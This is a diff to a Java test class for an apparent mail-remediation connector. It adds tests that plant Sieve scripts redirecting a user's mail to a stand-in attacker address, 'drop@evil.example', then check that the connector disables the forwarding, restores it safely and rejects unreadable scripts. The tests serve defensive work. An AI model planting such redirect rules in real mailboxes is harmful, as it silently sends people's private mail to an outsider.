@@ -10,14 +10,19 @@ import dev.quaestor.connector.Connector;
 import dev.quaestor.connector.ConnectorException;
 import dev.quaestor.connector.ConnectorException.Kind;
 import dev.quaestor.connector.capability.CredentialCheck;
+import dev.quaestor.connector.capability.MailForwarding;
 import dev.quaestor.connector.capability.MailReading;
 import dev.quaestor.connector.capability.MailRemediation;
 import dev.quaestor.connector.capability.MailRemediation.Aim;
 import dev.quaestor.connector.capability.MailRemediation.Destination;
 import dev.quaestor.connector.capability.MailSearch;
+import dev.quaestor.connector.capability.MailboxRules;
 import dev.quaestor.connector.capability.Mandate;
+import dev.quaestor.connector.capability.Progress;
 import dev.quaestor.entity.MailCluster.Field;
 import dev.quaestor.entity.MailMessage;
+import dev.quaestor.entity.Mailbox;
+import dev.quaestor.entity.MailboxRule;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
@@ -436,5 +441,55 @@ class MailboxesAsRootTest {
     assertThat(broken(check(Map.of("tls", "starttls", "host", "localhost")))).isEqualTo(Kind.DOWN);
     assertThat(broken(check(Map.of("tls", "starttls", "ca-file", ca)))).isEqualTo(Kind.DOWN);
     assertThat(dovecot.log()).doesNotContain(RealDovecot.PASSWORD);
+  }
+
+  @Test
+  void whatAnIncludedScriptSendsOutsideIsTakenOutToo() {
+    dovecot.activate(MEGAN, "more", "redirect \"drop@evil.example\";\n");
+    dovecot.activate(
+        MEGAN,
+        "main",
+        "require \"include\";\ninclude :personal \"more\";\ninclude :optional \"none\";\n");
+    var rule = new MailboxRule(MEGAN, "main", "main", true, List.of());
+    var forwarding = port(dovecot.connector(), MailForwarding.class);
+    var before = forwarding.image(rule).orElseThrow();
+    assertThat(before.enabled()).isTrue();
+    var state = dovecot.state();
+
+    assertThat(forwarding.turnOff(rule, mandate())).isInstanceOf(Progress.Done.class);
+
+    assertThat(forwarding.image(rule).orElseThrow().enabled()).isFalse();
+    assertThat(forwarding.forwards(rule)).isFalse();
+    assertThat(dovecot.active(MEGAN)).hasValueSatisfying(s -> assertThat(s).contains("quaestor-"));
+
+    assertThat(forwarding.restore(rule, before.before(), mandate()))
+        .isInstanceOf(Progress.Done.class);
+    assertThat(dovecot.state()).isEqualTo(state);
+  }
+
+  @Test
+  void aScriptThatItsUserHasChangedSinceIsNeverOverwritten() {
+    dovecot.activate(MEGAN, "main", "redirect \"drop@evil.example\";\n");
+    var rule = new MailboxRule(MEGAN, "main", "main", true, List.of());
+    var forwarding = port(dovecot.connector(), MailForwarding.class);
+    var before = forwarding.image(rule).orElseThrow();
+    forwarding.turnOff(rule, mandate());
+    dovecot.activate(MEGAN, "main", "keep; # mine\n");
+
+    assertThat(forwarding.restore(rule, before.before(), mandate()))
+        .isInstanceOfSatisfying(
+            Progress.Failed.class, failed -> assertThat(failed.code()).isEqualTo("CHANGED_SINCE"));
+    assertThat(dovecot.active(MEGAN)).contains("keep; # mine\n");
+  }
+
+  @Test
+  void aScriptThatCannotBeReadIsNoEmptyOne() {
+    dovecot.activate(MEGAN, "main", "redirect \"drop@evil.example");
+    var rules = port(dovecot.connector(), MailboxRules.class);
+
+    assertThatThrownBy(() -> rules.rules(List.of(new Mailbox(MEGAN, null))))
+        .isInstanceOfSatisfying(
+            ConnectorException.class,
+            broke -> assertThat(broke.kind()).isEqualTo(Kind.MALFORMED_ANSWER));
   }
 }
